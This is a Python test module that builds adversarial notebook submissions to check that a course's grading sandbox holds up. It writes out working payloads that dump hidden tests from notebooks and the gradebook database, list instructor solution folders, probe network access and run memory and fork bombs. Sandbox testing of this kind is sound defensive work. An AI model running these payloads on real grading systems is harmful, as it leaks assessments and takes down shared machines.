"""Adversarial submissions: Lab 00 answers that attack the grader, for the sandbox's tests.

Each attack is the correct Lab 00 solution with attack code appended to one answer cell, as a
student would hand it in. What the attack finds, it prints (marked ``LEAK``) so that it would
reach the student through the feedback. With the sandbox on (tools/sandbox.py), every attack
must be graded without stopping the batch and learn nothing.

    from tools.variants import adversarial
    adversarial.write_attack(root, "read_notebook", student="attack_read_notebook")

The bombs (``memory_bomb``, ``fork_bomb``) are unbounded on purpose: never grade them without
the sandbox (:func:`write_attack` refuses unless ``i_have_a_sandbox=True``).
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from tools import layout
from tools.submissions import fill, solution_code

LAB = "lab00_cache_sizing"
#: The answer cell the attacks are appended to (its function is defined before the attack runs).
CELL = "kv_bytes_per_token"

READ_NOTEBOOK = '''
# attack: print every notebook in the working folder (nbgrader restores the hidden tests into it)
import glob as _glob, os as _os
print("ATTACK read_notebook: cwd", _os.getcwd(), "holds", sorted(_os.listdir(".")))
for _p in sorted(set(_glob.glob("*.ipynb") + _glob.glob("**/*.ipynb", recursive=True))):
    try:
        with open(_p) as _f:
            print("LEAK notebook", _p, _f.read())
    except OSError as _e:
        print("blocked", _p, _e)
'''

WALK_TO_DB = '''
# attack: walk up from the working folder and dump every *.db found (the gradebook)
import os as _os, re as _re
_d = _os.path.abspath(".")
_seen = []
while True:
    try:
        _names = _os.listdir(_d)
    except OSError as _e:
        _names = []
        print("blocked", _d, _e)
    for _n in _names:
        if _n.endswith(".db"):
            _seen.append(_os.path.join(_d, _n))
            try:
                with open(_os.path.join(_d, _n), "rb") as _f:
                    _raw = _f.read().decode("utf-8", "replace")
                print("LEAK db", _n, _raw[:100], _re.findall("BEGIN " + "HIDDEN TESTS.{0,3000}", _raw, _re.S)[:3])
            except OSError as _e:
                print("blocked", _n, _e)
    if _d == "/":
        break
    _d = _os.path.dirname(_d)
print("ATTACK walk_to_db: found", _seen)
'''

LIST_SOURCE = '''
# attack: find the course's source/ folder (instructor notebooks, solutions) and print it
import os as _os
_found = []
_d = _os.path.abspath(".")
while True:
    _cand = _os.path.join(_d, "source")
    if _os.path.isdir(_cand):
        _found.append(_cand)
        for _root, _dirs, _files in _os.walk(_cand):
            for _n in _files:
                print("LEAK source file", _os.path.join(_root, _n))
                if _n.endswith(".ipynb"):
                    with open(_os.path.join(_root, _n)) as _f:
                        print("LEAK source notebook", _f.read())
    if _d == "/":
        break
    _d = _os.path.dirname(_d)
for _top in ("/", "/work", "/home", "/root", "/srv", "/opt"):  # a guess: <somewhere>/<course>/source
    try:
        _courses = _os.listdir(_top)
    except OSError:
        continue
    for _c in _courses:
        _guess = _os.path.join(_top, _c, "source")
        if _os.path.isdir(_guess) and _guess not in _found:
            _found.append(_guess)
            print("LEAK listing", _guess, _os.listdir(_guess))
print("ATTACK list_source: found", _found)
'''

NETWORK = '''
# attack: reach the outside and the grader's loopback
import socket as _socket
for _host, _port in [("pypi.org", 443), ("127.0.0.1", {loopback_port}), ("127.0.0.1", 22)]:
    try:
        _s = _socket.create_connection((_host, _port), timeout=3)
        _s.sendall(b"LEAK hello from the grading kernel\\n")
        _s.close()
        print("LEAK network: connected to", _host, _port)
    except OSError as _e:
        print("network blocked:", _host, _port, type(_e).__name__)
print("ATTACK network: done")
'''

MEMORY_BOMB = '''
# attack: allocate (and touch) memory without bound
_hog = []
while True:
    _hog.append(b"x" * (64 * 2**20))
'''

MEMORY_BOMB_SPREAD = '''
# attack: several processes, each under any per-process limit, together over the budget
import os as _os, time as _time
for _i in range(3):
    if _os.fork() == 0:
        _hog = bytearray({child_bytes})
        for _j in range(0, len(_hog), 4096):
            _hog[_j] = 1
        _time.sleep(600)
        _os._exit(0)
_time.sleep(600)
'''

FORK_BOMB = '''
# attack: fork without bound (every child forks too)
import os as _os
while True:
    _os.fork()
'''

#: name -> attack code appended to the answer cell ``CELL``.
ATTACKS: dict[str, str] = {
    "read_notebook": READ_NOTEBOOK,
    "walk_to_db": WALK_TO_DB,
    "list_source": LIST_SOURCE,
    "network": NETWORK,
    "memory_bomb": MEMORY_BOMB,
    "memory_bomb_spread": MEMORY_BOMB_SPREAD,
    "fork_bomb": FORK_BOMB,
}
#: Attacks that would hurt the grading machine itself without the sandbox.
BOMBS = ("memory_bomb", "memory_bomb_spread", "fork_bomb")


def attack_cells(root: Path, name: str, loopback_port: int = 9, child_bytes: int = 5 * 2**29) -> dict[str, str]:
    """Cell contents (grade_id -> code) of the attack submission ``name``: the source solution
    everywhere, with the attack appended to cell ``CELL``. ``loopback_port`` is the port on
    127.0.0.1 the network attack tries (a test listens there); ``child_bytes`` what each of the
    three children of ``memory_bomb_spread`` touches (default 2.5 GiB)."""
    if name not in ATTACKS:
        raise ValueError(f"name must be one of {sorted(ATTACKS)}, got {name!r}")
    if not isinstance(loopback_port, int) or not 0 < loopback_port < 65536:
        raise ValueError(f"loopback_port must be an int in 1..65535, got {loopback_port!r}")
    cells = solution_code(root, LAB)
    if not isinstance(child_bytes, int) or child_bytes <= 0:
        raise ValueError(f"child_bytes must be a positive int, got {child_bytes!r}")
    attack = ATTACKS[name].replace("{loopback_port}", str(loopback_port)).replace("{child_bytes}", str(child_bytes))
    cells[CELL] = cells[CELL].rstrip("\n") + "\n\n" + attack.strip("\n") + "\n"
    return cells


def write_attack(root: Path, name: str, student: str | None = None, loopback_port: int = 9,
                 i_have_a_sandbox: bool = False, child_bytes: int = 5 * 2**29) -> Path:
    """Write submitted/<student>/lab00_cache_sizing/lab00_cache_sizing.ipynb for attack ``name``
    (student defaults to ``attack_<name>``). Bombs need ``i_have_a_sandbox=True``."""
    if name in BOMBS and not i_have_a_sandbox:
        raise RuntimeError(f"{name} is unbounded: grade it only with the sandbox on (i_have_a_sandbox=True)")
    student = student or f"attack_{name}"
    release_nb = nbformat.read(layout.release_notebook(LAB, root), as_version=4)
    nb = fill(release_nb, attack_cells(root, name, loopback_port, child_bytes))
    target = layout.submitted_notebook(student, LAB, root)
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, target)
    return target
